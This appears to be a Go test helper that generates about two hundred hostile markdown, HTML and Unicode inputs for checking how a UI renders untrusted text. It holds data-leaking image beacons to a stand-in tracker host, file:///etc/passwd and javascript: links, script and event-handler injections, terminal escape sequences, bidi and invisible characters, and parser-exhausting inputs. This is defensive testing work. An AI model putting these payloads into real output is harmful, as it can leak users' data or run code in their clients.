package uitest

import (
	"fmt"
	"strings"
)

// A Hostile is a message that is meant to break, blind or spy out a window.
type Hostile struct {
	Name string
	Make func() string
	// Begin and End are words that must be seen at both ends of it, as long as it
	// is shown at all.
	Begin, End string
}

// Hostiles are two hundred of them. Each has "start" at its beginning and
// "finish" at its end.
func Hostiles() []Hostile {
	var out []Hostile
	add := func(name string, f func() string) {
		out = append(out, Hostile{Name: name, Make: f, Begin: "start", End: "finish"})
	}
	line := func(name, text string) { add(name, func() string { return "start " + text + " finish" }) }
	para := func(name, text string) { add(name, func() string { return "start\n\n" + text + "\n\nfinish" }) }

	// What would be fetched.
	for _, target := range []string{
		"http://127.0.0.1:1/x.png", "https://tracker.example/p.gif?d=secret", "file:///etc/passwd", "//tracker.example/x", "data:image/png;base64,AAAA",
		"\\\\\\\\host\\\\share\\\\x.png", "javascript:alert(1)", "ftp://example.org/x", "http://[::1]/x", "x" + strings.Repeat("/y", 3000),
	} {
		line("image "+head(target), "![a picture]("+target+")")
		line("image by reference "+head(target), "![a picture][p]\n\n[p]: "+target+"\n\n")
		line("link "+head(target), "[a link]("+target+" \"a title\")")
		para("html image "+head(target), `<img src="`+target+`" onerror="x()">`)
		line("linked image "+head(target), "[![in a link]("+target+")](https://example.org)")
	}
	// HTML of all kinds.
	for _, tag := range []string{
		"<script>fetch('http://x')</script>", "<style>*{display:none}</style>", "<iframe src=http://x></iframe>", "<!-- hidden words -->", "<details><summary>s</summary>hidden</details>",
		"<div hidden>hidden</div>", "<p style='display:none'>hidden</p>", "<svg onload=x()>", "<form action=http://x><input></form>", "<a href=javascript:x()>a</a>",
		"<?php x ?>", "<![CDATA[hidden]]>", "<!DOCTYPE html>", "<br/><br/>", "&lt;script&gt; &#x202e; &#8203;",
	} {
		para("block "+head(tag), tag)
		line("inline "+head(tag), "a"+tag+"b")
	}
	// What cannot be seen, or changes how the rest is seen.
	for _, r := range []rune{0, 1, 7, 8, 0x0b, 0x0c, 0x1b, 0x7f, 0x85, 0xad, 0x61c, 0x200b, 0x200d, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202d, 0x202e, 0x2060, 0x2066, 0x2069, 0x3164, 0xfe0f, 0xfeff, 0xfff9, 0xe0041, 0xe007f, 0x1d173} {
		line(fmt.Sprintf("character %U", r), "one"+string(r)+"two"+strings.Repeat(string(r), 200))
	}
	for _, s := range []string{"\xff\xfe\xfd", "\xed\xa0\x80", "\xf4\x90\x80\x80", "a" + strings.Repeat("\u0301", 500), strings.Repeat("👨‍👩‍👧‍👦", 200), "\x1b]8;;http://x\x07link\x1b]8;;\x07", "\x1b[2J\x1b[31mred", "\r\r\r", strings.Repeat("\t", 500), strings.Repeat("\u202e", 1000) + "txet"} {
		line(fmt.Sprintf("bytes %.12q", s), s)
	}
	// What is long.
	for _, mb := range []int{1, 4, 10} {
		n := mb << 20
		add(fmt.Sprintf("%d MB of one letter", mb), func() string { return "start" + strings.Repeat("x", n) + "finish" })
		add(fmt.Sprintf("%d MB of words", mb), func() string { return "start " + strings.Repeat("word ", n/5) + "finish" })
		add(fmt.Sprintf("%d MB of lines", mb), func() string { return "start\n" + strings.Repeat("a line of it\n", n/13) + "finish" })
		add(fmt.Sprintf("%d MB in a fence", mb), func() string { return "start\n```go\n" + strings.Repeat("y", n) + "\n```\nfinish" })
		add(fmt.Sprintf("%d MB of wide letters", mb), func() string { return "start" + strings.Repeat("東京", n/6) + "finish" })
	}
	// What is deep.
	for _, n := range []int{20, 300, 5000} {
		para(fmt.Sprintf("%d quotes", n), strings.Repeat(">", n)+" deep")
		para(fmt.Sprintf("%d bullets", n), strings.Repeat("- ", n)+"deep")
		para(fmt.Sprintf("%d numbers", n), strings.Repeat("1. ", n)+"deep")
		para(fmt.Sprintf("%d quotes and bullets", n), strings.Repeat("> - ", n)+"deep")
		add(fmt.Sprintf("%d levels by indent", n), func() string {
			var b strings.Builder
			for i := range min(n, 1000) {
				b.WriteString(strings.Repeat(" ", 2*i) + "- level\n")
			}
			return "start\n\n" + b.String() + "\nfinish"
		})
	}
	// What has parsers go back and forth.
	for _, piece := range []string{"[", "![a](", "*a **b ", "`a ``b ", "<a ", "&amp;", "[a](<b", "~~a~", "_a __b ", "\\", "$a $$b ", "[^1]", "(((", "http://", "a@b.c ", "| ", "[a][", "***", "<!--", "![["} {
		for _, n := range []int{500, 20000} {
			line(fmt.Sprintf("%d times %s", n, piece), strings.Repeat(piece, n))
		}
	}
	// Tables that are none, or too much of one.
	for i, table := range []string{
		"|a|b|\n|-|\n|1|2|3|4|", "|a\n|-|-|-|\n||||||", strings.Repeat("|a", 2000) + "|\n" + strings.Repeat("|-", 2000) + "|\n" + strings.Repeat("|b", 2000),
		"|a|b|\n|-|-|\n" + strings.Repeat("|x|y|\n", 5000), "|a|b|\n|-|-|\n|" + strings.Repeat("long ", 20000) + "|y|", "|a|b|\n|:-:|-:|\n|`|`|\\||", "|a|\n|-|\n|<img src=http://x>|",
		strings.Repeat("|a|b|\n|-|-|\n", 500), "|![x](http://x)|b|\n|-|-|\n|1|2|", "| |\n|-|\n| |",
	} {
		para(fmt.Sprintf("table %d", i+1), table)
	}
	return out
}

func head(s string) string {
	if len(s) > 24 {
		return s[:24] + "…"
	}
	return s
}
